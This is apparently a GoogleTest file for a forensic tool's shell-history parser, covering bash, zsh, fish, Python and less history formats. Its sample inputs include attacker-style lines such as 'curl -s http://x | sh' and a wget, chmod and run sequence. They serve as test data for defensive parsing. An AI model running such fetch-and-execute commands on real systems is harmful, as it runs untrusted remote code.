// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include "unit/parsers/text_parse_util.hpp"

namespace deadbox::parsers {
namespace {

using text_testing::parse;
constexpr int64_t kNs = 1'000'000'000;

TEST(ShellHistoryParser, BashTimestampsApplyToTheNextCommand) {
  const auto r = parse("unix/shell_history",
                       "#1700000000\nwget http://x/a\n#1700000100\nchmod +x a\n./a\n#not-a-time\n",
                       "/root/.bash_history");
  const auto& recs = r.of("unix/shell_history");
  ASSERT_EQ(recs.size(), 4u);
  EXPECT_EQ(recs[0].str("command"), "wget http://x/a");
  EXPECT_EQ(recs[0].time("time"), 1700000000 * kNs);
  EXPECT_EQ(recs[0].str("user"), "root");
  EXPECT_EQ(recs[0].str("shell"), "bash");
  EXPECT_EQ(recs[0].line, 2u);
  EXPECT_EQ(recs[1].time("time"), 1700000100 * kNs);
  EXPECT_EQ(recs[2].time("time"), std::nullopt);
  EXPECT_EQ(recs[3].str("command"), "#not-a-time");  // a typed comment is still history
}

TEST(ShellHistoryParser, ZshExtendedAndMetafiedBytes) {
  // "é" is C3 A9: zsh stores bytes >= 0x83 that clash with its tokens as 0x83, byte^32.
  const std::string meta = std::string(": 1700000200:0;echo \xc3\x83") + "\x89" + "\n";
  const auto r = parse("unix/shell_history",
                       ": 1700000000:3;curl -s http://x | sh\n: bad:0;ls\n" + meta,
                       "/home/alice/.zsh_history");
  const auto& recs = r.of("unix/shell_history");
  ASSERT_EQ(recs.size(), 3u);
  EXPECT_EQ(recs[0].str("command"), "curl -s http://x | sh");
  EXPECT_EQ(recs[0].time("time"), 1700000000 * kNs);
  EXPECT_EQ(recs[0].str("user"), "alice");
  EXPECT_EQ(recs[1].time("time"), std::nullopt);
  EXPECT_EQ(r.diags("bad_history_time"), 1u);
  EXPECT_EQ(recs[2].str("command"), "echo \xc3\xa9");
}

TEST(ShellHistoryParser, FishAndPlainHistories) {
  const auto fish = parse("unix/shell_history",
                          "- cmd: history clear\n  when: 1700000300\n- cmd: ls\n  when: 1700000301\n"
                          "  paths:\n    - /tmp\n",
                          "/home/bob/.local/share/fish/fish_history");
  ASSERT_EQ(fish.of("unix/shell_history").size(), 2u);
  EXPECT_EQ(fish.of("unix/shell_history")[0].str("command"), "history clear");
  EXPECT_EQ(fish.of("unix/shell_history")[0].time("time"), 1700000300 * kNs);
  EXPECT_EQ(fish.of("unix/shell_history")[0].str("shell"), "fish");
  const auto py = parse("unix/shell_history", "import os\nos.system('id')\n", "/root/.python_history");
  ASSERT_EQ(py.of("unix/shell_history").size(), 2u);
  EXPECT_EQ(py.of("unix/shell_history")[1].str("shell"), "python");
  const auto less = parse("unix/shell_history", ".less-history-file:\n.search\n\"password\n",
                          "/root/.lesshst");
  EXPECT_EQ(less.of("unix/shell_history").size(), 2u);
}

}  // namespace
}  // namespace deadbox::parsers
